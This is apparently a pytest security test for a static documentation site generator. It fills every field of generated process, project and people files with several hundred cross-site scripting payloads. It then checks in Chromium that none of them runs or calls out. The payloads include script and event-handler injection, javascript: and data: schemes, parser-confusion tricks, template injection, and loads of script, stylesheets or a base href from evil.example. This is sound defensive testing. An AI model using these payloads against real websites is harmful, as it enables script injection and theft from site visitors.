"""Some hundred known ways to get a script into a page, in every field of every file: in Chromium none of them runs."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from itertools import islice
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from site_made import MKDOCS

RUN = "window.__ran=1"
TAGS = "img video audio body svg iframe object input details marquee style math select textarea keygen button a"
EVENTS = "onerror onload onfocus onmouseover ontoggle onstart onanimationstart onpointerenter onbegin onclick"
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "&#106;avascript:{0}",
    "&#x6A;avascript:{0}",
    "javascript&colon;{0}",
    "\x01javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:image/svg+xml,<svg onload={0}>",
    "vbscript:{0}",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "view-source:javascript:{0}",
    "https:javascript:{0}",
    "javascript://%0a{0}",
    "jar:javascript:{0}",
    "feed:javascript:{0}",
    "blob:{0}",
)
LINKS = (
    "{0}",
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "<{0}>",
    '[x](a "{0}")',
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    "<svg><a xlink:href='{0}'>x</a></svg>",
    "<form action='{0}'><button>x</button></form>",
    "<math href='{0}'>x</math>",
)
WHOLE = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<scr<script>ipt>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "<!--><script>{0}</script>-->",
    "]]><script>{0}</script>",
    "</style><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "` onload={0} `",
    '" onmouseover={0} x="',
    "' autofocus onfocus={0} x='",
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{0}'>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'>",
    "<svg><use href='data:image/svg+xml,<svg onload={0}>'>",
    "<svg><style><img src=x onerror={0}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<math><mi><table><mi><style></math><img src onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<isindex type=image src=1 onerror={0}>",
    "{{{{ self.__init__.__globals__ }}}} {{% raw %}}<script>{0}</script>{{% endraw %}}",
    "${{{0}}} #{{{0}}} <%= {0} %> {{{{constructor.constructor('{0}')()}}}}",
    "`<script>{0}</script>",
    "```\n<script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\<script>{0}\\</script>",
    "\u202e<script>{0}</script>\u202c",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<\u0130mg src=x onerror={0}>",
    "<img/src=`x`/onerror={0}>",
    "<img src=x onerror\x0c=\x0c{0}>",
    "<x contenteditable onblur={0} autofocus>lose</x>",
)
ATTACKS = (
    *(f"<{tag} src=x {event}={RUN} autofocus>" for tag in TAGS.split() for event in EVENTS.split()),
    *(link.format(scheme.format(RUN)) for link in LINKS for scheme in SCHEMES),
    *(whole.format(RUN) for whole in WHOLE),
)
SHARE = 90
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
MKDOCS_WITH_COPY = MKDOCS.replace("content.action.edit]", "content.action.edit, content.code.copy]")
# What somebody does on a page: opens all that is folded, presses all buttons, follows the links within the page; and
# every event that a hostile attribute could wait for.
USED = """(events) => {
  for (const fold of document.querySelectorAll("details")) fold.open = true;
  for (const one of document.querySelectorAll("article :is(button, summary, input, a[href^='#'])")) one.click();
  for (const one of document.querySelectorAll("article *"))
    for (const name of events) one.dispatchEvent(new Event(name, {bubbles: false}));
  return [...document.querySelectorAll("[href], [src], [action], [formaction], [data]")]
    .filter((one) => !one.closest("svg"))
    .map((one) => one.href || one.src || one.action || one.formAction || one.data)
    .filter((address) => !/^(https?:|mailto:)/.test(address));
}"""


def one_line(text: str) -> str:
    return " ".join(text.replace("\x01", "").split())


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def valued(text: str) -> str:
    """Give a text as the value of an event, whose only quotation marks are double ones."""
    return '"' + one_line(text).replace('"', "'") + '"'


def workspace(attacks: Sequence[str]) -> dict[str, str]:
    """A process with a run, a project and a person for each few of the attacks, which stand in all their fields."""
    files = {"mkdocs.yml": MKDOCS_WITH_COPY, "docs/index.md": "# Home\n"}
    people = ["title: " + quoted(attacks[0]), "people:", '  ana: {name: Ana, email: ["ana@example.org"]}']
    teams = ["teams:"]
    rest = iter(attacks)
    number = 0
    while part := tuple(islice(rest, SHARE)):
        number += 1
        all_of = " ".join(one_line(attack) for attack in part)
        people.append(
            f"  p{number}: {{name: {quoted(all_of)}, github: {quoted(part[0])}, email: [{quoted(part[-1])}]}}"
        )
        keys = dict.fromkeys(quoted(one_line(attack)) for attack in part)
        teams += [f"  {key}: [p{number}, ana]" for key in keys]
        amounts = ", ".join(f"{key}: 2" for key in keys)
        name = f"evil-{number}"
        steps = "\n".join(f"- [ ] Do {one_line(a)} {{#s{n} @ana}}\n\n  {one_line(a)}\n" for n, a in enumerate(part))
        files[f"processes/{name}/README.md"] = (
            f"---\ntitle: {quoted(all_of)}\nsummary: {quoted(all_of)}\nowner: {quoted('@p' + str(number))}\n"
            f"fields: {{customer: {{label: {quoted(all_of)}, choices: [{quoted(all_of)}]}}}}\n"
            f"tags: [{quoted(all_of)}]\n---\n\n![x](evil.svg)\n\n" + "\n\n".join(part) + f"\n\n## Stage\n\n{steps}"
        )
        folder = f"processes/{name}/runs/2026-11-16-x"
        files[f"processes/{name}/evil.svg"] = files[f"{folder}/evil.svg"] = SVG
        events = "\n".join(
            f"  - 2026-11-17T{9 + n // 60:02}:{n % 60:02}:00Z @ana {deed}: {one_line(a)}"
            for n, a in enumerate(part)
            for deed in ("noted", f"noted link={valued(a)}", f"noted file={valued(a)}", f"set customer={valued(a)}")
        )
        events += f"\n  - 2026-11-17T20:00:00Z @ana noted file={folder}/evil.svg"
        files[f"processes/{name}/runs/2026-11-16-x.md"] = (
            f"---\nrun: {name}/2026-11-16-x\nprocess: {name}\nrevision: {'0' * 40}\ntitle: {quoted(all_of)}\n"
            f'started: 2026-11-16T09:12:00Z\nby: "@ana"\nfields: {{customer: {quoted(all_of)}}}\n---\n\n## Stage\n\n'
            f"- [ ] Do {one_line(part[0])} {{#s0 @ana}}\n{events}\n\n"
            f"## Log\n\n- 2026-11-16T09:12:00Z @ana started: {all_of}\n"
        )
        files[f"projects/{name}/README.md"] = (
            f'---\ntitle: {quoted(all_of)}\nobjective: {quoted(all_of)}\nowner: "@ana"\nstart: 2026-11-16\n'
            f"tags: [{quoted(all_of)}]\nresources: {{{amounts}}}\nlimits: {{{amounts}}}\n"
            f"risks:\n  - {{risk: {quoted(all_of)}, response: {quoted(all_of)}, probability: 30%, owner: p{number}}}\n"
            f"---\n\n## Phase\n\n{steps}\n- [ ] {one_line(part[-1])} {{#end milestone after=s0 @p{number}}}\n\n"
            "## Updates\n\n### 2026-11-20 red\n\n" + "\n\n".join(part) + "\n\n"
            "## Changes\n\n### 2026-11-20\n\n" + "\n\n".join(part) + "\n"
        )
    files["handrail.yml"] = "\n".join([*people, *teams]) + "\n"
    return files


def check_data(site: Path) -> None:
    """Feeds and badges stay XML, data stays JSON, a calendar and the list of pages have lines of their own only."""
    for path in (*site.rglob("feed.xml"), *site.glob("badges/**/*.svg")):
        names = {element.tag.rpartition("}")[2] for element in ET.parse(path).iter()}
        assert not names & {"script", "a", "foreignObject", "image", "use"}, path
    for path in site.glob("api/**/*.json"):
        json.loads(path.read_text("utf-8"))
    for path in site.rglob("calendar.ics"):
        text = path.read_bytes().decode()
        assert "\n" not in text.replace("\r\n", "").replace("\r", "\n"), path
        for line in text.replace("\r\n ", "").split("\r\n"):
            assert re.match(r"[A-Z-]+[;:]|$", line), (path, line)
    listed = (site / "llms.txt").read_text("utf-8").split("\n")
    assert all(re.match(r"$|#|>|- \[[^\[\]]*\]\([^()\s]*\)", line) for line in listed), listed


@pytest.mark.parametrize(
    "attacks", [pytest.param(ATTACKS[::5], id="a fifth"), pytest.param(ATTACKS, id="all", marks=pytest.mark.slow)]
)
def test_nothing_runs_and_nothing_leaves(build: Any, browser: Any, serving: Any, attacks: Sequence[str]) -> None:
    assert len(ATTACKS) > 350
    site = build(files=workspace(attacks))
    pages = sorted(path.relative_to(site).as_posix() for path in Path(site).rglob("*.html"))
    for page in ("processes/evil-1", "processes/evil-1/runs/2026-11-16-x", "projects/evil-1", "people/p1", "activity"):
        assert "window.__ran" in (site / page / "index.html").read_text("utf-8"), page
    assert "<code>@p1</code>" in (site / "people/p1/index.html").read_text("utf-8")
    check_data(Path(site))
    assert not list(Path(site).rglob("evil.svg")), "SVG from files is not handed out"
    asked: list[str] = []
    wrong: list[str] = []
    with serving(site) as address:
        view = browser.new_page()
        view.on("request", lambda request: asked.append(request.url))
        view.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        view.on("console", lambda said: wrong.append(said.text) if "Content Security Policy" in said.text else None)
        for page in pages:
            view.goto(address + page, wait_until="load")
            wrong += [f"{page} links to {address}" for address in view.evaluate(USED, EVENTS.replace("on", "").split())]
            wrong += [f"{page} ran"] if view.evaluate("window.__ran") else []
        for other in sorted(one for end in ("svg", "xml", "json", "txt") for one in Path(site).rglob(f"*.{end}")):
            if "/assets/" not in other.as_posix():
                view.goto(address + other.relative_to(site).as_posix(), wait_until="load")
                wrong += [f"{other} ran"] if view.evaluate("window.__ran") else []
        view.close()
    here = address.rsplit("/", 2)[0] + "/"
    assert wrong == []
    assert [url for url in asked if not url.startswith((here, "data:", "blob:"))] == []
